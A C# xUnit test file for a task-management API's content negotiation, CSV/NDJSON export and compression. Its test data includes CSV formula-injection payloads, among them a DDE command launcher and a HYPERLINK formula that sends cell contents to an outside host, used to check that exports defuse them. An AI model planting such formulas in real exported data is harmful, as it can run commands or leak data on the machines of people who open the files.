using System.Diagnostics;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace Quehacer.Server.Tests;

/// <summary>What answers are given in: formats, and codings.</summary>
public sealed partial class FormatTests(SharedServer shared)
{
    private const string Csv = "text/csv";
    private const string Ndjson = "application/x-ndjson";

    private Task<Fetched> FetchAsync(Client client, string path, params (string Name, string Value)[] headers) => Fetched.GetAsync(client, shared.Server.Http, path, headers);

    [Theory]
    [InlineData("", "application/json")]
    [InlineData("*/*", "application/json")]
    [InlineData("application/*", "application/json")]
    [InlineData("text/*", Csv)]
    [InlineData("text/csv", Csv)]
    [InlineData("TEXT/CSV", Csv)]
    [InlineData("application/x-ndjson", Ndjson)]
    [InlineData("text/html, text/csv;q=0.1", Csv)]
    [InlineData("text/csv;q=0.5, application/json;q=0.4", Csv)]
    [InlineData("text/csv;q=0.4, application/json;q=0.5", "application/json")]
    [InlineData("text/csv, application/json", "application/json")]
    [InlineData("text/csv, */*", Csv)]
    [InlineData("application/json, text/plain, */*", "application/json")]
    [InlineData("application/x-ndjson;q=0.9, text/csv;q=0.9, application/json;q=0.1", Csv)]
    [InlineData("application/json;q=0, */*", Csv)]
    [InlineData("application/json;q=0, text/csv;q=0, */*;q=0.1", Ndjson)]
    [InlineData("*/*;q=0.1, text/*;q=0.5, text/csv;q=0.05", "application/json")]
    [InlineData("text/csv;header=present", Csv)]
    [InlineData("text/csv; charset=\"UTF-8\"; header=present", Csv)]
    [InlineData("text/csv;profile=unknown", Csv)]
    [InlineData("text/csv;header=absent, application/json;q=0.1", "application/json")]
    [InlineData("text/csv;header=present;q=0.2, text/csv;q=0.9, application/json;q=0.5", "application/json")]
    [InlineData("application/json; charset=utf-8", "application/json")]
    [InlineData("application/json;odata=verbose", "application/json")]
    [InlineData("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "application/json")]
    [InlineData(";;;", "application/json")]
    [InlineData("nonsense", "application/json")]
    [InlineData("text/html", null)]
    [InlineData("text/csv;header=absent", null)]
    [InlineData("text/csv;charset=iso-8859-1", null)]
    [InlineData("text/csv;q=0", null)]
    [InlineData("*/*;q=0", null)]
    [InlineData("application/problem+json", null)]
    public async Task Accept_decides_what_a_list_is_given_in(string accept, string? type)
    {
        var user = await shared.SomebodyAsync();
        foreach (var path in new[] { User.Tasks, "/tasks", "/api/v1/tags", "/api/v1/categories" })
        {
            var answer = await FetchAsync(user, path, accept.Length > 0 ? [("Accept", accept)] : []);
            Assert.Equal((type is null ? 406 : 200, type ?? "application/problem+json"), (answer.Status, answer.Type));
            Assert.Contains("Accept", answer.Header("Vary")!.Split(", "));
            if (type is null)
            {
                var problem = JsonNode.Parse(answer.Text)!;
                Assert.Equal("NOT_ACCEPTABLE", (string)problem["code"]!);
                Assert.All(new[] { "application/json", Csv, Ndjson }, there => Assert.Contains(there, (string)problem["detail"]!));
            }
        }
    }

    [Fact]
    public async Task What_is_no_list_is_JSON_and_its_refusal_says_so()
    {
        var user = await shared.SomebodyAsync();
        var (path, _) = await user.CreateAsync(new { title = "a" });
        foreach (var target in new[] { path, "/api/v1/me" })
        {
            Assert.DoesNotContain(Csv, (string)(await user.GetAsync(target, ("Accept", Csv))).IsProblem(406, "NOT_ACCEPTABLE")["detail"]!);
            Assert.DoesNotContain("Accept,", (await user.GetAsync(target)).Is(200).Header("Vary") + ",");
        }
        var made = await user.PostAsync(User.Tasks, new { title = "not to be made" }, ("Accept", Csv));
        made.IsProblem(406, "NOT_ACCEPTABLE");
        Assert.Empty((await user.GetAsync($"{User.Tasks}?q=not to be made")).Is(200)["tasks"]!.AsArray());
    }

    [Fact]
    public async Task Refusals_are_problems_whatever_is_accepted()
    {
        var user = await shared.SomebodyAsync();
        foreach (var accept in new[] { Csv, Ndjson })
        {
            (await user.GetAsync($"{User.Tasks}?limit=0", ("Accept", accept))).IsInvalid("limit");
            (await user.GetAsync($"{User.Tasks}?cursor=nonsense", ("Accept", accept))).IsInvalid("cursor");
            (await user.GetAsync("/api/v1/tags?nonsense=1", ("Accept", accept))).IsInvalid("nonsense");
            (await shared.Nobody().GetAsync(User.Tasks, ("Accept", accept))).IsProblem(401, "UNAUTHORIZED");
        }
    }

    /// <summary>Texts that are hard to write, and whether an apostrophe has to go before them.</summary>
    private static readonly (string Text, bool IsDefused)[] Texts =
    [
        ("plain", false), ("Café, señor; ¿qué?", false), ("say \"no\"", false), ("\"quoted\"", false), ("a,b", false), ("😀 日本語", false), ("1+1=2", false), ("a=1", false),
        ("ends in a quote\"", false), ("#hash", false), ("5", false), ("(5)", false), ("NULL", false), (",", false), ("\"", false), ("a\u2028b", false),
        ("=1+1", true), ("=cmd|' /C calc'!A0", true), ("+1", true), ("-1", true), ("@SUM(1)", true), ("=HYPERLINK(\"http://example.com?x=\"&A1,\"a\")", true),
        ("＝1＋1", true), ("＋1", true), ("－1", true), ("＠SUM(1)", true), ("'=1", true), ("'quoted'", true), ("''", true), ("-", true), ("- milk", true), ("\"=1\"", false),
    ];

    /// <summary>Only descriptions keep white space at their ends.</summary>
    private static readonly (string Text, bool IsDefused)[] Descriptions =
    [
        .. Texts, ("two\nlines", false), ("two\r\nlines\r", false), ("tab\tinside", false), (" a ", false), (" =1", true), ("\u3000＝1", true), ("\t=1", true), ("\tindented", true),
        ("\r=1", true), ("\n=1", true), ("", false), (" ", false),
    ];

    [Fact]
    public async Task A_table_read_by_another_reader_holds_what_the_list_holds()
    {
        var user = await shared.NewUserAsync();
        var category = (string)(await user.PostAsync("/api/v1/categories", new { name = "=cat,\"egory\"" })).Is(201)["id"]!;
        foreach (var (description, i) in Descriptions.Select((one, i) => (one, i)))
        {
            var title = Texts[i % Texts.Length].Text;
            await user.CreateAsync(new
            {
                title, description = description.Text, priority = i % 2 == 0 ? "high" : "low", due_date = i % 3 == 0 ? "2099-01-31T18:00:00.125+01:00" : null,
                category_id = i % 2 == 0 ? category : null, tags = i % 4 == 0 ? new[] { title, $"a, \"{i}\"", "home" } : i % 4 == 1 ? [title] : [],
            });
        }
        await user.CreateAsync(new { title = "no description" });
        await user.DeleteAsync((await user.CreateAsync(new { title = "deleted" })).Path);

        var answer = await FetchAsync(user, $"{User.Tasks}?include_deleted=true", ("Accept", Csv));
        Assert.Equal((200, "text/csv; charset=utf-8; header=present", "attachment; filename=\"tasks.csv\""), (answer.Status, answer.Header("Content-Type"), answer.Header("Content-Disposition")));
        Assert.False(answer.Bytes.AsSpan().StartsWith("\uFEFF"u8));
        var listed = (await user.GetAsync($"{User.Tasks}?include_deleted=true&limit=100")).Is(200)["tasks"]!.AsArray();
        var rows = answer.Csv();
        Assert.Equal(Descriptions.Length + 2, rows.Count);
        var described = Descriptions.ToLookup(one => one.Text, one => one.IsDefused);
        foreach (var (task, row) in listed.Zip(rows))
        {
            foreach (var (name, cell) in row)
            {
                var value = task![name];
                var text = cell.StartsWith('\'') ? cell[1..] : cell;
                if (name == "tags")
                {
                    var names = text.Length == 0 ? [] : Fetched.Table(Encoding.UTF8.GetBytes(text)).Names;
                    Assert.Equal(value!.AsArray().Select(tag => (string)tag!), names);
                }
                else
                {
                    Assert.Equal(value?.ToString() ?? "", text);
                }
                if (name is "title" or "description" && described.Contains(text) && value is not null)
                {
                    Assert.True(described[text].First() == cell.StartsWith('\''), $"The cell '{cell}' of '{text}'.");
                }
                Assert.DoesNotMatch(@"^\s*[=+\-@＝＋－＠]|^[\t\r\n]", cell);
            }
        }
        Assert.Equal(
            ["id", "number", "title", "description", "status", "priority", "due_date", "category_id", "tags", "assignee_id", "parent_id", "subtask_count", "subtasks_done", "position", "workspace_id", "version", "created_at", "updated_at", "deleted_at"], rows[0].Keys);
        Assert.DoesNotContain("deleted_at", (await FetchAsync(user, User.Tasks, ("Accept", Csv))).Csv()[0].Keys);
        Assert.Equal("'=cat,\"egory\"", Assert.Single((await FetchAsync(user, "/api/v1/categories", ("Accept", Csv))).Csv())["name"]);
    }

    [Fact]
    public async Task Nothing_and_an_empty_text_are_told_apart()
    {
        var user = await shared.NewUserAsync();
        await user.CreateAsync(new { title = "a", description = "" });
        await user.CreateAsync(new { title = "b", description = (string?)null });
        Assert.Equal("title,description,tags\r\na,\"\",\r\nb,,\r\n", (await FetchAsync(user, $"{User.Tasks}?fields=title,description,tags&sort=title", ("Accept", Csv))).Text);
        Assert.Equal("description\r\n\"\"\r\n\"\"\r\n", (await FetchAsync(user, $"{User.Tasks}?fields=description", ("Accept", Csv))).Text);
    }

    [Fact]
    public async Task Fields_are_columns_in_their_order_and_an_empty_list_is_its_names()
    {
        var user = await shared.NewUserAsync();
        Assert.Equal("status,id\r\n", (await FetchAsync(user, $"{User.Tasks}?fields=status,id,status", ("Accept", Csv))).Text);
        Assert.Equal("", (await FetchAsync(user, User.Tasks, ("Accept", Ndjson))).Text);
        Assert.Equal("id,name,color,version,created_at,updated_at\r\n", (await FetchAsync(user, "/api/v1/tags", ("Accept", Csv))).Text);
        await user.CreateAsync(new { title = "a", tags = new[] { "home" } });
        Assert.Equal("status,title\r\npending,a\r\n", (await FetchAsync(user, $"{User.Tasks}?fields=status,title", ("Accept", Csv))).Text);
        Assert.Equal("{\"title\":\"a\",\"status\":\"pending\"}\n", (await FetchAsync(user, $"{User.Tasks}?fields=status,title", ("Accept", Ndjson))).Text);
        Assert.Equal("1", Assert.Single((await FetchAsync(user, "/api/v1/tags?counts=true", ("Accept", Csv))).Csv())["task_count"]);
    }

    [Fact]
    public async Task A_page_has_the_rows_and_the_headers_that_it_has_in_JSON()
    {
        var user = await shared.NewUserAsync();
        foreach (var title in new[] { "a", "b", "c", "d", "e" })
        {
            await user.CreateAsync(new { title, tags = new[] { title } });
        }
        var second = (string)(await user.GetAsync($"{User.Tasks}?limit=2"))["pagination"]!["next_cursor"]!;
        foreach (var path in new[] { $"{User.Tasks}?limit=2", $"{User.Tasks}?page=2&limit=2", $"{User.Tasks}?page=9", $"{User.Tasks}?cursor={second}&limit=2", $"{User.Tasks}?cursor={second}", "/api/v1/tags?limit=2", "/api/v1/tags?page=3&limit=2" })
        {
            var json = (await user.GetAsync(path)).Is(200);
            var ids = (json["tasks"] ?? json["tags"])!.AsArray();
            var csv = await FetchAsync(user, path, ("Accept", Csv));
            var ndjson = await FetchAsync(user, path, ("Accept", Ndjson));
            Assert.Equal(ids.Select(task => (string)task!["id"]!), csv.Csv().Select(row => row["id"]));
            Assert.Equal(ids.Select(task => task!.ToJsonString(Client.Plain)), ndjson.Text.Split('\n', StringSplitOptions.RemoveEmptyEntries));
            foreach (var answer in new[] { csv, ndjson })
            {
                Assert.Equal((json.Header("Link"), json.Header("X-Total-Count"), json.Header("Cache-Control")), (answer.Header("Link"), answer.Header("X-Total-Count"), answer.Header("Cache-Control")));
            }
        }
        var whole = await FetchAsync(user, $"{User.Tasks}?status=pending", ("Accept", Ndjson));
        Assert.Equal((null, "5"), (whole.Header("Link"), whole.Header("X-Total-Count")));
        Assert.Null((await FetchAsync(user, $"{User.Tasks}?include_total=false", ("Accept", Ndjson))).Header("X-Total-Count"));
    }

    [Fact]
    public async Task All_tags_come_whole_beyond_a_page_in_the_order_of_the_pages()
    {
        var user = await shared.NewUserAsync();
        for (var i = 0; i < 25; i++)
        {
            await user.CreateAsync(new { title = "a", tags = Enumerable.Range(0, 10).Select(j => $"{(j % 3) switch { 0 => "Á", 1 => "a", _ => "z" }}{(i * 7 + j * 11) % 50} {i}.{j}").ToArray() });
        }
        var walked = new List<string>();
        for (var page = 1; page <= 3; page++)
        {
            walked.AddRange((await user.GetAsync($"/api/v1/tags?page={page}&counts=true")).Is(200)["tags"]!.AsArray().Select(tag => tag!.ToJsonString(Client.Plain)));
        }
        Assert.Equal(250, walked.Count);
        var whole = await FetchAsync(user, "/api/v1/tags?counts=true", ("Accept", Ndjson), ("Accept-Encoding", "br"));
        Assert.Equal(walked, whole.Text.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.Equal(250, (await FetchAsync(user, "/api/v1/tags", ("Accept", Csv))).Csv().Select(row => row["id"]).Distinct().Count());
    }

    [Fact]
    public async Task HEAD_says_of_every_format_and_coding_what_GET_says()
    {
        var user = await shared.NewUserAsync();
        for (var i = 0; i < 6; i++)
        {
            await user.CreateAsync(new { title = $"Task {i}", description = new string('x', 300) });
        }
        foreach (var accept in new[] { "application/json", Csv, Ndjson })
        {
            foreach (var coding in new[] { "identity", "br", "gzip" })
            {
                (string, string)[] headers = [("Accept", accept), ("Accept-Encoding", coding)];
                var (get, head) = ((await user.GetAsync(User.Tasks, headers)).Is(200), (await user.SendAsync("HEAD", User.Tasks, null, headers)).Is(200));
                Assert.Equal("", head.Text);
                foreach (var name in new[] { "Content-Type", "Content-Encoding", "Vary", "X-Total-Count", "Link", "Content-Disposition" })
                {
                    Assert.Equal(get.Header(name), head.Header(name));
                }
                Assert.True(head.Header("Content-Length") is null || head.Header("Content-Length") == get.Header("Content-Length"));
            }
        }
    }

    [Theory]
    [InlineData(null, "")]
    [InlineData("", "")]
    [InlineData("gzip", "gzip")]
    [InlineData("x-gzip", "gzip")]
    [InlineData("BR", "br")]
    [InlineData("gzip, deflate, br, zstd", "br")]
    [InlineData("gzip;q=0.9, br;q=0.8", "gzip")]
    [InlineData("br;q=0, gzip;q=0.1", "gzip")]
    [InlineData("br;q=0, gzip;q=0", "")]
    [InlineData("*", "br")]
    [InlineData("br;q=0, *", "gzip")]
    [InlineData("deflate, zstd", "")]
    [InlineData("identity", "")]
    [InlineData("identity, gzip", "gzip")]
    [InlineData("identity;q=1, gzip;q=0.5", "")]
    [InlineData("identity;q=0.5, gzip;q=1", "gzip")]
    [InlineData("identity;q=0, gzip", "gzip")]
    [InlineData("*;q=0, br", "br")]
    [InlineData("*;q=0, identity", "")]
    [InlineData("identity;q=0, *", "br")]
    [InlineData("nonsense;;=", "")]
    [InlineData("*;q=0", null)]
    [InlineData("identity;q=0", null)]
    [InlineData("identity;q=0, zstd", null)]
    [InlineData("gzip;q=0, br;q=0, identity;q=0", null)]
    public async Task Accept_Encoding_decides_the_coding(string? accepted, string? coding)
    {
        var user = await LongAsync();
        foreach (var accept in new[] { "application/json", Csv, Ndjson })
        {
            (string, string)[] headers = accepted is null ? [("Accept", accept)] : [("Accept", accept), ("Accept-Encoding", accepted)];
            var answer = await FetchAsync(user, User.Tasks, headers);
            if (coding is null)
            {
                Assert.Equal((406, "application/problem+json", ""), (answer.Status, answer.Type, answer.Coding));
                continue;
            }
            Assert.Equal((200, coding), (answer.Status, answer.Coding));
            Assert.Equal((await FetchAsync(user, User.Tasks, ("Accept", accept))).Text, answer.Text);
            Assert.Superset(new HashSet<string>(["Accept", "Accept-Encoding", "Authorization"]), Varies(answer));
            Assert.True(coding.Length == 0 || answer.Bytes.Length < Encoding.UTF8.GetByteCount(answer.Text) / 2);
        }
    }

    [Fact]
    public async Task Short_answers_are_compressed_only_for_whoever_wants_nothing_else()
    {
        var user = await shared.SomebodyAsync();
        var (path, _) = await user.CreateAsync(new { title = "short" });
        var usual = await FetchAsync(user, path, ("Accept-Encoding", "gzip, br"));
        Assert.Equal(("", $"{usual.Bytes.Length}"), (usual.Coding, usual.Header("Content-Length")));
        Assert.Contains("Accept-Encoding", Varies(usual));
        var strict = await FetchAsync(user, path, ("Accept-Encoding", "gzip, identity;q=0"));
        Assert.Equal(("gzip", usual.Text), (strict.Coding, strict.Text));
        var (edge, made) = await user.CreateAsync(new { title = "edge", description = new string('x', 500) });
        foreach (var (bytes, coding) in new[] { (1023, ""), (1024, "br") })
        {
            (await user.PatchAsync(edge, new { description = new string('x', 500 + bytes - Encoding.UTF8.GetByteCount(made.Text)) })).Is(200);
            Assert.Equal(bytes, (await FetchAsync(user, edge)).Bytes.Length);
            Assert.Equal(coding, (await FetchAsync(user, edge, ("Accept-Encoding", "br"))).Coding);
        }
    }

    [Fact]
    public async Task Tokens_refusals_and_health_are_never_compressed()
    {
        var user = await shared.NewUserAsync();
        (string, string)[] headers = [("Accept-Encoding", "gzip, br, identity;q=0")];
        var login = (await user.PostAsync("/api/v1/auth/login", new { email = user.Email, password = User.Password }, headers)).Is(200);
        Assert.Equal((null, "no-store"), (login.Header("Content-Encoding"), login.Header("Cache-Control")));
        var wrong = new JsonObject();
        for (var i = 0; i < 50; i++)
        {
            wrong[$"unknown{i}"] = 1;
        }
        var refusal = (await user.PostAsync(User.Tasks, wrong, headers)).IsProblem(422, "VALIDATION_ERROR");
        Assert.True(refusal.Text.Length > 1024);
        Assert.Null(refusal.Header("Content-Encoding"));
        foreach (var path in new[] { "/health", "/health/detailed", "/ready", "/live" })
        {
            Assert.Null((await user.GetAsync(path, headers)).Is(200).Header("Content-Encoding"));
        }
    }

    [Fact]
    public async Task Another_coding_has_another_strong_tag()
    {
        var user = await shared.SomebodyAsync();
        var (path, made) = await user.CreateAsync(new { title = "long", description = new string('x', 2000) });
        foreach (var coding in new[] { "br", "gzip" })
        {
            var answer = await FetchAsync(user, path, ("Accept-Encoding", coding));
            Assert.Equal((coding, $"{made.ETag![..^1]}.{coding}\""), (answer.Coding, answer.Header("ETag")));
        }
        Assert.Equal(made.ETag, (await FetchAsync(user, path)).Header("ETag"));
        var changed = await user.PatchAsync(path, new { title = "longer" }, ("Accept-Encoding", "br"));
        Assert.Equal("br", changed.Is(200).Header("Content-Encoding"));
        Assert.EndsWith(".br\"", changed.ETag);

        const string description = "/openapi/v1.json";
        var plain = await FetchAsync(user, description);
        foreach (var (seen, accepted, tag) in new[]
        {
            (plain.Header("ETag")!, "br", plain.Header("ETag")!), (Tagged("br"), "br", Tagged("br")), (Tagged("gzip"), "gzip, deflate", Tagged("gzip")), (Tagged("br"), "identity", Tagged("br")),
            ($"\"other\", W/{Tagged("gzip")}", "gzip", Tagged("gzip")), ("*", "br", plain.Header("ETag")!),
        })
        {
            var unchanged = await FetchAsync(user, description, ("If-None-Match", seen), ("Accept-Encoding", accepted));
            Assert.Equal((304, 0, tag), (unchanged.Status, unchanged.Bytes.Length, unchanged.Header("ETag")));
            Assert.Contains("Accept-Encoding", Varies(unchanged));
        }
        Assert.Equal(200, (await FetchAsync(user, description, ("If-None-Match", "\"other.br\""), ("Accept-Encoding", "br"))).Status);

        string Tagged(string coding) => $"{plain.Header("ETag")![..^1]}.{coding}\"";
    }

    [Fact]
    public async Task Pages_and_their_files_are_compressed_and_curl_reads_them()
    {
        foreach (var path in new[] { "/", "/docs", "/errors", "/openapi/v1.json", "/docs/swagger-ui-bundle.js", "/docs/swagger-ui.css" })
        {
            var plain = await FetchAsync(shared.Nobody(), path);
            Assert.Contains("Accept-Encoding", plain.Header("Vary")!.Split(", "));
            Assert.Equal("", plain.Coding);
            foreach (var coding in new[] { "gzip", "br" })
            {
                var answer = await FetchAsync(shared.Nobody(), path, ("Accept-Encoding", coding));
                Assert.Equal((coding, plain.Text), (answer.Coding, answer.Text));
            }
            Assert.Equal(plain.Text, await CurlAsync("--compressed", new Uri(shared.Server.Address, path).ToString()));
        }
        // It lies compressed in its package, and is not compressed here.
        foreach (var (accepted, coding) in new[] { ("gzip, br", "gzip"), ("br", "") })
        {
            var picture = await FetchAsync(shared.Nobody(), "/docs/favicon-32x32.png", ("Accept-Encoding", accepted));
            Assert.Equal(coding, picture.Coding);
            Assert.Contains("Accept-Encoding", Varies(picture));
        }
        var user = await LongAsync();
        foreach (var accept in new[] { "application/json", Csv, Ndjson })
        {
            Assert.Equal(
                (await FetchAsync(user, User.Tasks, ("Accept", accept))).Text,
                await CurlAsync("--compressed", "-H", $"Accept: {accept}", "-H", $"Authorization: Bearer {user.AccessToken}", new Uri(shared.Server.Address, User.Tasks).ToString()));
        }
    }

    private static HashSet<string> Varies(Fetched answer) => [.. answer.Header("Vary")!.Split(',', StringSplitOptions.TrimEntries)];

    /// <summary>The sections about formats, pasted as they stand.</summary>
    [Theory]
    [InlineData("docs/http.md", "Formats")]
    [InlineData("docs/http.md", "Compression")]
    [InlineData("docs/finding.md", "Export everything")]
    [InlineData("docs/finding.md", "More or less of each task")]
    public async Task The_examples_of_the_documents_work_as_they_are_pasted(string document, string section)
    {
        var user = await shared.NewUserAsync();
        await user.CreateAsync(new { title = "Buy milk", tags = new[] { "home" }, description = new string('x', 2000) });
        await user.PostAsync("/api/v1/categories", new { name = "Errands" });
        var text = await File.ReadAllTextAsync(Path.Combine(QuehacerServer.Repository, document));
        var begin = text.IndexOf($"\n## {section}\n", StringComparison.Ordinal);
        Assert.True(begin >= 0, $"{document} has no section '{section}'.");
        var end = text.IndexOf("\n## ", begin + 1, StringComparison.Ordinal);
        var blocks = Block().Matches(text[begin..(end < 0 ? text.Length : end)]).Select(block => block.Groups[1].Value).ToList();
        Assert.NotEmpty(blocks);
        var directory = Directory.CreateTempSubdirectory("quehacer-examples-");
        try
        {
            var start = new ProcessStartInfo("bash", ["-c", "set -euo pipefail\n" + string.Join('\n', blocks)])
            {
                WorkingDirectory = directory.FullName, RedirectStandardOutput = true, RedirectStandardError = true,
            };
            start.Environment["Q"] = $"http://localhost:{shared.Server.Port}";
            start.Environment["AUTH"] = $"Authorization: Bearer {user.AccessToken}";
            var (status, output, errors) = await RunAsync(start);
            Assert.True(status == 0, $"{document}, {section}: ended with {status}.\n{output}\n{errors}");
            Assert.DoesNotContain("\"code\":", output);
            foreach (var file in directory.EnumerateFiles())
            {
                Assert.True(file.Length > 0 && !(await File.ReadAllTextAsync(file.FullName)).Contains("\"code\":"), $"{file.Name} holds no list.");
            }
        }
        finally
        {
            directory.Delete(recursive: true);
        }
    }

    private static User? rich;

    /// <summary>A user whose lists are long enough to be compressed; the tests of a class take turns.</summary>
    private async Task<User> LongAsync()
    {
        if (rich is null)
        {
            rich = await shared.NewUserAsync();
            foreach (var title in new[] { "a", "b", "c" })
            {
                await rich.CreateAsync(new { title, description = new string('x', 700) });
            }
        }
        return rich;
    }

    private static async Task<string> CurlAsync(params string[] arguments)
    {
        var (status, output, errors) = await RunAsync(new ProcessStartInfo("curl", ["-sS", "--fail", .. arguments]) { RedirectStandardOutput = true, RedirectStandardError = true, StandardOutputEncoding = Encoding.UTF8 });
        Assert.True(status == 0, errors);
        return output;
    }

    private static async Task<(int Status, string Output, string Errors)> RunAsync(ProcessStartInfo start)
    {
        using var run = Process.Start(start)!;
        var output = run.StandardOutput.ReadToEndAsync();
        var errors = await run.StandardError.ReadToEndAsync();
        await run.WaitForExitAsync();
        return (run.ExitCode, await output, errors);
    }

    [GeneratedRegex("^```bash\n(.*?)^```$", RegexOptions.Singleline | RegexOptions.Multiline)]
    private static partial Regex Block();
}
